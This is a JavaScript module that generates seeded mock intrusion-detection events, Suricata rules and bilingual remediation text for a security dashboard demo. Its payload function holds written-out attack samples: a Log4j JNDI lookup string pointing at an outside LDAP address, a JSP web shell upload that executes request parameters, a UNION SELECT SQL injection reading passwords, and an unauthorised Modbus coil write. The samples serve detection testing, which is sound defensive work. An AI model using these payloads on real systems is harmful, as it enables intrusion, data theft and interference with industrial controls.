// SPDX-License-Identifier: Apache-2.0
// Generated data for the mock node: a day of traffic on a small network, the same for the same seed, with
// attacks in it. Addresses are documentation and private ones.
export function prng(seed) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SIGS = [
  // sid, severity, critical, name en, category, technique, proto, port, src, dest, weight
  [9000101, 1, true, 'DZ Log4j remote code execution attempt (JNDI)', 'Attempted Administrator Privilege Gain', 'T1190', 'http', 8080, '203.0.113.44', '10.8.3.21', 24],
  [9000412, 1, true, 'DZ ICS unauthorised coil write (Modbus function 15)', 'Attempt to change an industrial process', 'T0855', 'modbus', 502, '10.8.40.7', '10.8.41.2', 3],
  [9000201, 1, false, 'DZ SSH password brute force', 'Attempted User Privilege Gain', 'T1110', 'ssh', 22, '198.51.100.7', '10.8.3.5', 60],
  [9000310, 1, false, 'DZ web shell upload (JSP)', 'Web Application Attack', 'T1505.003', 'http', 80, '203.0.113.44', '10.8.3.21', 2],
  [9000320, 1, false, 'DZ DNS tunnel: long high-entropy names', 'A Network Trojan was detected', 'T1071.004', 'dns', 53, '10.8.12.90', '10.8.0.53', 40],
  [9000330, 2, false, 'DZ SQL injection (union select)', 'Web Application Attack', 'T1190', 'http', 80, '192.0.2.19', '10.8.3.22', 20],
  [9000340, 2, false, 'DZ self-signed certificate with odd subject', 'Potentially Bad Traffic', 'T1573', 'tls', 443, '10.8.12.44', '198.51.100.90', 10],
  [9000350, 2, false, 'DZ port scan (SYN)', 'Detection of a Network Scan', 'T1046', 'failed', 0, '192.0.2.77', '10.8.3.9', 90],
  [9000360, 3, false, 'DZ identity card number in clear text', 'Sensitive data', '', 'http', 80, '10.8.20.15', '10.8.20.4', 8],
  [9000370, 3, false, 'DZ outdated TLS 1.0', 'Not Suspicious Traffic', '', 'tls', 443, '10.8.9.2', '10.8.3.30', 60],
  [9000380, 3, false, 'DZ rare destination country', 'Misc activity', 'T1041', 'tls', 443, '10.8.12.31', '203.0.113.9', 6],
  [9000390, 4, false, 'DZ policy: remote desktop in use', 'Potential Corporate Privacy Violation', 'T1021', 'rdp', 3389, '10.8.7.3', '10.8.7.90', 14],
];

const HOSTS = ['portal.example.com', 'mail.example.com', 'update.example.net', 'cdn.example.org', 'git.example.com', 'oa.example.com'];
const PATHS = ['/', '/index.html', '/api/login', '/static/app.js', '/images/logo.png', '/search?q=pump', '/admin/'];
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0', 'Mozilla/5.0 (X11; Linux x86_64)', 'python-requests/2.31'];

const b64 = (s) => Buffer.from(s, 'latin1').toString('base64');

function payload(sid) {
  switch (sid) {
    case 9000101:
      return 'GET /?x=${jndi:ldap://203.0.113.44:1389/a} HTTP/1.1\r\nHost: 10.8.3.21:8080\r\nUser-Agent: ${jndi:ldap://203.0.113.44:1389/a}\r\nAccept: */*\r\n\r\n';
    case 9000412:
      return '\x00\x0c\x00\x00\x00\x08\x01\x0f\x00\x13\x00\x0a\x02\xcd\x01';
    case 9000201:
      return 'SSH-2.0-libssh2_1.11.0\r\n';
    case 9000310:
      return 'POST /upload.do HTTP/1.1\r\nHost: oa.example.com\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x\r\nContent-Disposition: form-data; name="f"; filename="s.jsp"\r\n\r\n<%Runtime.getRuntime().exec(request.getParameter("c"));%>\r\n--x--\r\n';
    case 9000330:
      return "GET /item?id=1'%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\r\nHost: portal.example.com\r\n\r\n";
    default:
      return '';
  }
}

export const RULES = {
  9000101: 'alert http any any -> $HOME_NET any (msg:"DZ Log4j remote code execution attempt (JNDI)"; flow:established,to_server; http.uri; content:"${jndi:"; nocase; fast_pattern; pcre:"/\\$\\{jndi:(ldap|rmi|dns)s?:/i"; reference:cve,2021-44228; classtype:attempted-admin; sid:9000101; rev:3; metadata:mitre_technique_id T1190;)',
  9000412: 'alert tcp any any -> any 502 (msg:"DZ ICS unauthorised coil write (Modbus function 15)"; flow:established,to_server; content:"|00 00|"; offset:2; depth:2; content:"|0f|"; offset:7; depth:1; flowbits:isset,dz.plc; sid:9000412; rev:3;)',
  9000330: 'alert http any any -> $HOME_NET any (msg:"DZ SQL injection (union select)"; flow:established,to_server; http.uri; content:"union"; nocase; content:"select"; nocase; distance:1; within:20; sid:9000330; rev:1;)',
  9000201: 'alert tcp any any -> $HOME_NET 22 (msg:"DZ SSH password brute force"; flow:established,to_server; content:"SSH-2.0-"; depth:8; threshold:type both, track by_src, count 20, seconds 60; sid:9000201; rev:2;)',
};

const WHAT = {
  9000101: {
    en: 'A request carried ${jndi:…}: on a vulnerable Log4j the server fetches and runs code from the attacker.',
    zh: '请求里带有 ${jndi:…}：若服务端使用有漏洞的 Log4j，会从攻击者处下载并执行代码。',
  },
  9000412: {
    en: 'This host wrote several coils of a controller by Modbus function 15. It is not on the list of engineering stations.',
    zh: '该主机用 Modbus 功能码 15 改写了控制器的多个线圈，而它不在工程师站名单中。',
  },
};
const TODO = {
  9000101: {
    en: 'Look whether 10.8.3.21 then connected to the address in the string. If so, isolate it. Update Log4j to 2.17 or newer.',
    zh: '查看 10.8.3.21 之后是否连接了字符串里的地址；若有，先隔离主机。把 Log4j 升级到 2.17 以上。',
  },
  9000412: {
    en: 'Check the work order; if there is none, cut off 10.8.40.7 and set the outputs back.',
    zh: '核对工单；若没有对应工单，断开 10.8.40.7 并恢复输出状态。',
  },
};
export const rulePair = (sid) => ({ what: WHAT[sid] ?? null, todo: TODO[sid] ?? null });

export function generate({ now = Date.now(), seed = 7, events = 6000 } = {}) {
  const r = prng(seed);
  const pick = (a) => a[Math.floor(r() * a.length)];
  const out = [];
  const total = SIGS.reduce((s, x) => s + x[10], 0);
  const id = (i) => 'e' + String(i).padStart(8, '0');
  const base = (at, type) => ({
    timestamp: new Date(at).toISOString().replace('Z', '000Z'),
    flow_id: Math.floor(r() * 2 ** 50),
    in_iface: 'eth1',
    event_type: type,
  });
  for (let i = 0; i < events; i++) {
    // A quiet night, a busy day, and a burst eight hours ago.
    const burst = i % 16 === 0;
    const back = burst ? 6.5 * 36e5 + r() * 2 * 36e5 : r() * 24 * 36e5;
    const at = now - back;
    const k = burst ? 0 : r();
    const client = `10.8.${pick([3, 7, 9, 12, 20])}.${2 + Math.floor(r() * 60)}`;
    const server = r() < 0.6 ? `10.8.3.${pick([5, 9, 21, 22, 30])}` : `198.51.100.${2 + Math.floor(r() * 40)}`;
    const sport = 32768 + Math.floor(r() * 28000);
    let e;
    if (k < 0.28) {
      let w = r() * total;
      const sig = burst ? SIGS[pick([0, 2, 2, 5])] : SIGS.find((s) => (w -= s[10]) <= 0);
      const [sid, sev, crit, name, cat, tech, proto, port, src, dest] = sig;
      e = {
        ...base(at, 'alert'),
        src_ip: src,
        src_port: sport,
        dest_ip: dest,
        dest_port: port || 1 + Math.floor(r() * 1024),
        proto: proto === 'dns' ? 'UDP' : 'TCP',
        app_proto: proto,
        direction: 'to_server',
        alert: {
          action: 'allowed',
          gid: 1,
          signature_id: sid,
          rev: 3,
          signature: name,
          category: cat,
          severity: sev,
          metadata: { ...(tech ? { mitre_technique_id: [tech] } : {}), ...(crit ? { signature_severity: ['Critical'] } : {}) },
        },
        flow: { pkts_toserver: 6, pkts_toclient: 4, bytes_toserver: 900, bytes_toclient: 1200, start: new Date(at - 300).toISOString() },
      };
      const p = payload(sid);
      if (p) {
        e.payload = b64(p);
        e.payload_printable = p.replace(/[^\x20-\x7e\r\n]/g, '.');
      }
      if (proto === 'http') e.http = { hostname: pick(HOSTS), url: pick(PATHS), http_user_agent: pick(AGENTS), http_method: 'GET', protocol: 'HTTP/1.1', status: pick([200, 404, 500]), length: 400 };
    } else if (k < 0.5) {
      e = {
        ...base(at, 'flow'), src_ip: client, src_port: sport, dest_ip: server, dest_port: pick([443, 80, 22, 53]), proto: 'TCP', app_proto: pick(['tls', 'tls', 'tls', 'http', 'ssh', 'failed']),
        flow: { pkts_toserver: 1 + Math.floor(r() * 80), pkts_toclient: 1 + Math.floor(r() * 120), bytes_toserver: Math.floor(r() * 40000), bytes_toclient: Math.floor(r() * 900000), start: new Date(at - 2e4).toISOString(), end: new Date(at).toISOString(), age: 20, state: pick(['closed', 'established', 'new']), reason: 'timeout', alerted: false },
      };
    } else if (k < 0.7) {
      const host = pick(HOSTS);
      e = {
        ...base(at, 'dns'), src_ip: client, src_port: sport, dest_ip: '10.8.0.53', dest_port: 53, proto: 'UDP', app_proto: 'dns',
        dns: { version: 3, type: 'response', id: Math.floor(r() * 65536), rcode: r() < 0.06 ? 'NXDOMAIN' : 'NOERROR', queries: [{ rrname: host, rrtype: 'A' }], answers: [{ rrname: host, rrtype: 'A', ttl: 300, rdata: '198.51.100.' + (2 + Math.floor(r() * 40)) }] },
      };
    } else if (k < 0.85) {
      e = {
        ...base(at, 'http'), src_ip: client, src_port: sport, dest_ip: server, dest_port: 80, proto: 'TCP', app_proto: 'http',
        http: { hostname: pick(HOSTS), url: pick(PATHS), http_user_agent: pick(AGENTS), http_content_type: 'text/html', http_method: pick(['GET', 'GET', 'POST']), protocol: 'HTTP/1.1', status: pick([200, 200, 200, 304, 404]), length: Math.floor(r() * 90000) },
      };
    } else if (k < 0.97) {
      e = {
        ...base(at, 'tls'), src_ip: client, src_port: sport, dest_ip: server, dest_port: 443, proto: 'TCP', app_proto: 'tls',
        tls: { sni: pick(HOSTS), version: pick(['TLS 1.3', 'TLS 1.3', 'TLS 1.2']), subject: 'CN=example.com', issuerdn: 'CN=Example CA', ja4: 't13d1516h2_8daaf6152771_b186095e22b6' },
      };
    } else {
      e = { ...base(at, 'ssh'), src_ip: client, src_port: sport, dest_ip: '10.8.3.5', dest_port: 22, proto: 'TCP', app_proto: 'ssh', ssh: { client: { software_version: 'OpenSSH_9.2p1', proto_version: '2.0' }, server: { software_version: 'OpenSSH_9.2p1', proto_version: '2.0' } } };
    }
    e.daizong = { sensor: r() < 0.8 ? 'edge-1' : 'plant-2', unit: 'default' };
    out.push(e);
  }
  out.sort((a, b) => (a.timestamp < b.timestamp ? 1 : -1));
  out.forEach((e, i) => (e._id = id(out.length - i)));
  return out;
}

export function severityOf(e) {
  if (!e.alert) return null;
  if (e.alert.severity === 1 && e.alert.metadata?.signature_severity?.includes('Critical')) return 'critical';
  return ['high', 'medium', 'low', 'info'][Math.min(4, e.alert.severity) - 1];
}

/** Alert groups by signature, source and target. */
export function groupsOf(events, now = Date.now()) {
  const by = new Map();
  for (const e of events) {
    if (!e.alert) continue;
    const key = `${e.alert.signature_id}|${e.src_ip}|${e.dest_ip}`;
    let g = by.get(key);
    if (!g) {
      g = {
        id: 'g' + (by.size + 1), status: 'new', severity: severityOf(e), signature: e.alert.signature, signature_id: e.alert.signature_id, category: e.alert.category,
        src_ip: e.src_ip, dest_ip: e.dest_ip, count: 0, first: e.timestamp, last: e.timestamp, spark: new Array(24).fill(0),
        techniques: e.alert.metadata.mitre_technique_id ?? [], app_proto: e.app_proto, sensor: e.daizong.sensor, note: null, decided_by: null, decided_at: null,
      };
      by.set(key, g);
    }
    g.count++;
    if (e.timestamp > g.last) g.last = e.timestamp;
    if (e.timestamp < g.first) g.first = e.timestamp;
    const h = Math.floor((now - Date.parse(e.timestamp)) / 36e5);
    if (h >= 0 && h < 24) g.spark[23 - h]++;
  }
  return [...by.values()];
}

/** More groups, so that the inbox pages and scrolls: port scans of many targets. */
export function scatter(n, now = Date.now(), seed = 11) {
  const r = prng(seed);
  return Array.from({ length: n }, (_, i) => {
    const s = SIGS[4 + Math.floor(r() * 8)];
    const last = now - r() * 20 * 36e5;
    return {
      id: 's' + i, status: 'new', severity: s[2] ? 'critical' : ['high', 'medium', 'low', 'info'][s[1] - 1], signature: s[3], signature_id: s[0], category: s[4],
      src_ip: `192.0.2.${1 + Math.floor(r() * 250)}`, dest_ip: `10.8.${Math.floor(r() * 40)}.${1 + Math.floor(r() * 250)}`, count: 1 + Math.floor(r() * r() * 900),
      first: new Date(last - r() * 36e5).toISOString(), last: new Date(last).toISOString(), spark: Array.from({ length: 24 }, () => Math.floor(r() * 9)),
      techniques: s[5] ? [s[5]] : [], app_proto: s[6], sensor: 'edge-1', note: null, decided_by: null, decided_at: null,
    };
  });
}
